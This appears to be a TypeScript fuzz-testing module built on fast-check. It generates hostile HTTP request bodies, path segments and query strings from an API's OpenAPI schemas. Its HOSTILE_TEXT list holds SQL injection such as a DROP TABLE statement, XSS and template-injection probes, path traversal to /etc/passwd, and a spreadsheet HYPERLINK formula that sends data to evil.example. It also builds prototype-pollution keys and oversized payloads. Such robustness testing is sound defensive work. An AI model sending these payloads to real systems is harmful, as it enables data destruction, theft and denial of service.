import fc from 'fast-check';

// Hostile requests derived from a route's own OpenAPI (JSON Schema) description: bodies are built as
// JSON *text*, so that keys like `__proto__`, 1,000-level nesting, lone surrogates and 1 MB strings reach
// the server exactly as an attacker would send them.

/** The subset of JSON Schema that fastify-type-provider-zod writes into the OpenAPI document. */
export interface JsonSchema {
  type?: string | string[];
  properties?: Record<string, JsonSchema>;
  required?: string[];
  additionalProperties?: boolean | JsonSchema;
  items?: JsonSchema;
  minItems?: number;
  maxItems?: number;
  enum?: unknown[];
  const?: unknown;
  format?: string;
  pattern?: string;
  minLength?: number;
  maxLength?: number;
  minimum?: number;
  maximum?: number;
  nullable?: boolean;
  anyOf?: JsonSchema[];
  oneOf?: JsonSchema[];
  allOf?: JsonSchema[];
  default?: unknown;
}

export interface Parameter {
  in: 'query' | 'path' | 'header' | 'cookie';
  name: string;
  required?: boolean;
  schema: JsonSchema;
}

const NEST = 1000;
const POLLUTE = '{"polluted":"yes"}';

/** Strings that have broken servers before: injection, markup, Unicode edge cases, control characters. */
export const HOSTILE_TEXT: readonly string[] = [
  "' OR 1=1 --",
  "'; DROP TABLE audit_events; --",
  '" OR ""="',
  "1'); select pg_sleep(5); --",
  '\\',
  '%',
  '_%',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  '{{constructor.constructor("alert(1)")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: template-injection probe, meant literally
  '${7*7}',
  '=HYPERLINK("http://evil.example/?"&A1)',
  '+1-1',
  '@SUM(1)',
  '\uD800',
  '\uDFFF',
  'a\uD83D',
  '\u202Eevil\u202C',
  '\u200F\u200E\u200B',
  '\u0000',
  'a\u0000b',
  '\u001B[31m',
  `e${'\u0301'.repeat(50)}`,
  '🔒👨‍👩‍👧‍👦🏳️‍🌈𠮷',
  '\uFEFF',
  '\u3000',
  '\r\n',
  '',
  ' ',
  '../../../../etc/passwd',
  '..%2f..%2f',
  '%00',
  '%s%n%x',
  '__proto__',
  'constructor',
  'prototype',
  'NaN',
  'Infinity',
  '-1',
  '1e309',
  'null',
  'true',
  '0x10',
  '2024-02-30',
  '0000-00-00',
  '9999-12-31T24:00:00Z',
  '00000000-0000-0000-0000-000000000000',
  'ffffffff-ffff-ffff-ffff-ffffffffffff',
];

/** A string of hostile text, a random full-Unicode string, or (rarely) a long one. */
export function hostileString(opts: { huge?: boolean } = {}): fc.Arbitrary<string> {
  const long: fc.Arbitrary<string>[] = opts.huge
    ? [fc.constant('A'.repeat(1_000_000)), fc.constant('漢'.repeat(300_000))]
    : [fc.constant('A'.repeat(5_000))];
  return fc.oneof(
    { weight: 6, arbitrary: fc.constantFrom(...HOSTILE_TEXT) },
    { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
    { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
    { weight: 1, arbitrary: fc.oneof(...long) },
  );
}

const text = (s: string) => JSON.stringify(s);

/** Any JSON value of the wrong kind: odd numbers, hostile strings, deep nesting, pollution objects. */
export function hostileJson(opts: { huge?: boolean } = {}): fc.Arbitrary<string> {
  return fc.oneof(
    fc.constantFrom('null', 'true', 'false', '0', '-0', '-1', '1.5', '1e308', '-1e308', '9007199254740993'),
    fc.constantFrom('""', '[]', '{}', '[null]', '[[]]', '{"":""}'),
    hostileString(opts).map(text),
    fc.constant(`${'['.repeat(NEST)}${']'.repeat(NEST)}`),
    fc.constant(`${'{"a":'.repeat(NEST)}1${'}'.repeat(NEST)}`),
    fc.constant(`{"__proto__":${POLLUTE},"constructor":{"prototype":${POLLUTE}},"prototype":${POLLUTE}}`),
    fc.constant(`[${Array.from({ length: 10_000 }, () => '0').join(',')}]`),
  );
}

function types(s: JsonSchema): string[] {
  const t = s.type === undefined ? [] : Array.isArray(s.type) ? s.type : [s.type];
  return s.nullable ? [...t, 'null'] : t;
}

// biome-ignore lint/suspicious/noControlCharactersInRegex: the schemas refuse these, so valid text avoids them
const CONTROL = /[\u0000-\u0008\u000B\u000C\u000E-\u001F\u007F-\u009F]/;

const isoDate = fc
  .date({ min: new Date('1900-01-01'), max: new Date('2200-12-31'), noInvalidDate: true })
  .map((d) => d.toISOString());

/** A string the schema accepts, often carrying injection or markup text that fits. */
function validString(s: JsonSchema): fc.Arbitrary<string> {
  if (s.format === 'uuid') return fc.uuid();
  if (s.format === 'date') return isoDate.map((d) => d.slice(0, 10));
  if (s.format === 'date-time') return isoDate;
  if (s.format === 'email') return fc.emailAddress();
  if (s.pattern) return fc.stringMatching(new RegExp(s.pattern), { maxLength: s.maxLength ?? 64 });
  const min = s.minLength ?? 0;
  const max = Math.min(s.maxLength ?? 200, 5_000);
  const fits = HOSTILE_TEXT.filter((h) => h.length >= min && h.length <= max && !/\p{Cs}/u.test(h));
  const printable = fits.filter((h) => !CONTROL.test(h));
  // Schemas trim, and refuse control characters: keep only what survives both.
  return fc
    .oneof(
      ...(printable.length ? [fc.constantFrom(...printable)] : []),
      fc.string({ unit: 'grapheme', minLength: min, maxLength: Math.min(max, 60) }),
    )
    .filter((v) => v.trim().length >= Math.max(min, 1) && !CONTROL.test(v));
}

/** JSON text that the schema accepts (hostile in content, right in shape). */
export function validJson(s: JsonSchema, depth = 0): fc.Arbitrary<string> {
  if (s.const !== undefined) return fc.constant(JSON.stringify(s.const));
  if (s.enum) return fc.constantFrom(...s.enum.map((v) => JSON.stringify(v)));
  const alts = s.anyOf ?? s.oneOf;
  if (alts) return fc.oneof(...alts.map((a) => validJson(a, depth)));
  if (s.allOf?.[0]) return validJson(s.allOf[0], depth);
  const t = types(s);
  const kinds = t.length ? t : ['string'];
  return fc.oneof(
    ...kinds.map((kind): fc.Arbitrary<string> => {
      switch (kind) {
        case 'null':
          return fc.constant('null');
        case 'boolean':
          return fc.boolean().map(String);
        case 'integer':
          return fc
            .integer({
              min: Math.max(s.minimum ?? -1e6, -(2 ** 31)),
              max: Math.min(s.maximum ?? 1e6, 2 ** 31),
            })
            .map(String);
        case 'number':
          return fc
            .double({ min: s.minimum ?? -1e6, max: s.maximum ?? 1e6, noNaN: true, noDefaultInfinity: true })
            .map((n) => JSON.stringify(n));
        case 'array': {
          if (depth > 4 || !s.items) return fc.constant('[]');
          return fc
            .array(validJson(s.items, depth + 1), {
              minLength: s.minItems ?? 0,
              maxLength: Math.min(s.maxItems ?? 3, Math.max(s.minItems ?? 0, 3)),
            })
            .map((xs) => `[${xs.join(',')}]`);
        }
        case 'object':
          return validObject(s, depth);
        default:
          return validString(s).map(text);
      }
    }),
  );
}

type Entry = [key: string, json: string];
const objectText = (entries: Entry[]) => `{${entries.map(([k, v]) => `${text(k)}:${v}`).join(',')}}`;

function validEntries(s: JsonSchema, depth: number): fc.Arbitrary<Entry[]> {
  const required = new Set(s.required ?? []);
  const props = Object.entries(s.properties ?? {});
  if (depth > 4) return fc.constant([]);
  return fc
    .tuple(
      ...props.map(([k, sub]) =>
        required.has(k)
          ? validJson(sub, depth + 1).map((v): Entry | null => [k, v])
          : fc.option(
              validJson(sub, depth + 1).map((v): Entry => [k, v]),
              { nil: null },
            ),
      ),
    )
    .map((xs) => xs.filter((x): x is Entry => x !== null));
}

function validObject(s: JsonSchema, depth: number) {
  return validEntries(s, depth).map(objectText);
}

/**
 * JSON text that breaks the schema somewhere: one declared property (at any depth) of the wrong type
 * or out of range, an unknown or prototype-polluting key, or a wrong value for the whole.
 */
export function invalidJson(s: JsonSchema, opts: { huge?: boolean } = {}, depth = 0): fc.Arbitrary<string> {
  const whole = hostileJson(opts);
  const alts = s.anyOf ?? s.oneOf;
  if (alts) return fc.oneof(whole, ...alts.map((a) => invalidJson(a, opts, depth + 1)));
  const t = types(s);
  if (t.includes('object') && s.properties && depth < 4) {
    const props = Object.keys(s.properties);
    const mutated = fc
      .tuple(validEntries(s, depth), fc.nat(Math.max(props.length - 1, 0)))
      .chain(([entries, i]) => {
        const key = props[i]!;
        return invalidJson(s.properties![key]!, opts, depth + 1).map((bad) =>
          objectText([...entries.filter(([k]) => k !== key), [key, bad]]),
        );
      });
    const extra = fc
      .tuple(
        validEntries(s, depth),
        fc.constantFrom('__proto__', 'constructor', 'prototype', 'unexpected', '', '$where', 'toString'),
        fc.oneof(fc.constant(POLLUTE), fc.constant(`{"prototype":${POLLUTE}}`), hostileJson(opts)),
      )
      .map(([entries, k, v]) => objectText([...entries, [k, v]]));
    const missing = validEntries(s, depth).map((entries) =>
      objectText(entries.filter(([k]) => !(s.required ?? []).includes(k))),
    );
    return fc.oneof({ weight: 4, arbitrary: mutated }, { weight: 2, arbitrary: extra }, missing, whole);
  }
  if (t.includes('array') && s.items && depth < 4) {
    const tooMany = s.maxItems !== undefined && s.maxItems < 5_000 ? [tooManyItems(s)] : [];
    return fc.oneof(
      whole,
      invalidJson(s.items, opts, depth + 1).map((bad) => `[${bad}]`),
      ...tooMany,
    );
  }
  const out: fc.Arbitrary<string>[] = [whole];
  if (s.maxLength !== undefined) out.push(fc.constant(text('x'.repeat(s.maxLength + 1))));
  if (s.maximum !== undefined) out.push(fc.constant(String(s.maximum + 1)));
  if (s.minimum !== undefined) out.push(fc.constant(String(s.minimum - 1)));
  return fc.oneof(...out);
}

function tooManyItems(s: JsonSchema): fc.Arbitrary<string> {
  return validJson(s.items!, 5).map((v) => `[${Array.from({ length: s.maxItems! + 1 }, () => v).join(',')}]`);
}

/**
 * Percent-encodes every code unit, lone surrogates included (as the bytes of their CESU-8 form, which
 * is invalid UTF-8): encodeURIComponent would throw on them, an attacker's client does not.
 */
export function encodeHostile(s: string): string {
  let out = '';
  for (const ch of s) {
    const cp = ch.codePointAt(0)!;
    if (cp >= 0xd800 && cp <= 0xdfff) {
      out += [0xe0 | (cp >> 12), 0x80 | ((cp >> 6) & 0x3f), 0x80 | (cp & 0x3f)]
        .map((b) => `%${b.toString(16).toUpperCase()}`)
        .join('');
    } else out += encodeURIComponent(ch);
  }
  return out;
}

/** A value for one path segment: hostile text, a random (well-formed) UUID, or a right-looking wrong id. */
export function hostilePathParam(): fc.Arbitrary<string> {
  return fc
    .oneof(hostileString(), fc.uuid(), fc.constantFrom('0', '-1', '1e3', '%2e%2e', 'a'.repeat(101)))
    .map((v) => (v.startsWith('%') ? v : encodeHostile(v)));
}

/** A query string from the route's parameters: each valid or hostile, some repeated, plus unknown keys. */
export function hostileQuery(params: Parameter[]): fc.Arbitrary<string> {
  const query = params.filter((p) => p.in === 'query');
  const value = (p: Parameter) =>
    fc.oneof(
      validJson(p.schema).map((j) => {
        const v = JSON.parse(j) as unknown;
        return typeof v === 'string' ? v : JSON.stringify(v);
      }),
      hostileString(),
    );
  const pairs = fc.tuple(
    ...query.map((p) =>
      fc.option(
        fc
          .array(value(p), { minLength: 1, maxLength: 2 })
          .map((vs) => vs.map((v): [string, string] => [p.name, v])),
        { nil: null },
      ),
    ),
  );
  const extra = fc.option(
    fc.tuple(
      fc.constantFrom(
        '__proto__',
        'constructor[prototype][polluted]',
        '__proto__[polluted]',
        'unexpected',
        '',
      ),
      hostileString(),
    ),
    { nil: null, freq: 3 },
  );
  return fc.tuple(pairs, extra).map(([ps, x]) => {
    const all = [...ps.flatMap((p) => p ?? []), ...(x ? [x] : [])];
    return all.map(([k, v]) => `${encodeHostile(k)}=${encodeHostile(v)}`).join('&');
  });
}

/** A query string the route accepts: some of its declared parameters, each with a valid value. */
export function validQuery(params: Parameter[]): fc.Arbitrary<string> {
  const query = params.filter((p) => p.in === 'query');
  return fc
    .tuple(
      ...query.map((p) =>
        (p.required
          ? validJson(p.schema).map((j) => j as string | null)
          : fc.option(validJson(p.schema), { nil: null })
        ).map((j): [string, string] | null => {
          if (j === null) return null;
          const v = JSON.parse(j) as unknown;
          return [p.name, typeof v === 'string' ? v : JSON.stringify(v)];
        }),
      ),
    )
    .map((pairs) =>
      pairs
        .filter((p): p is [string, string] => p !== null)
        .map(([k, v]) => `${encodeHostile(k)}=${encodeHostile(v)}`)
        .join('&'),
    );
}
